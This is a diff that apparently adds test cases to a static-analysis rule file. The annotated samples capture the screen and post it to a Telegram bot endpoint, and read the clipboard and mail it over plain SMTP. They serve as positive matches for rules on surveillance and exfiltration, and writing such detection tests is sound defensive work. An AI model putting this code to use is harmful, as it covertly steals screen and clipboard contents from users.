@@ -488,3 +488,21 @@ def health_probe(host):
     with open("build.log", "w") as log:
         # ok: socket-to-child-stdio
         subprocess.run(["make"], stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
+# the screen, captured into a buffer and posted to a drop box
+from PIL import ImageGrab
+import io
+shot = ImageGrab.grab()
+png = io.BytesIO()
+shot.save(png, "PNG")
+# ruleid: surveillance-exfiltration, http-client, requests-no-timeout, exfiltration-endpoint
+requests.post("https://api.telegram.org/bot6123:AAH/sendPhoto", files={"photo": png.getvalue()})
+# ok: surveillance-exfiltration
+# ruleid: http-client
+requests.post("https://api.example.com/v1/vision", files={"image": png.getvalue()}, timeout=30)
+import smtplib
+from email.message import EmailMessage
+import pyperclip
+note = EmailMessage()
+note.set_content(pyperclip.paste())
+# ruleid: surveillance-mail-or-socket, clear-text-protocol-client
+smtplib.SMTP("mail.example.net").send_message(note)
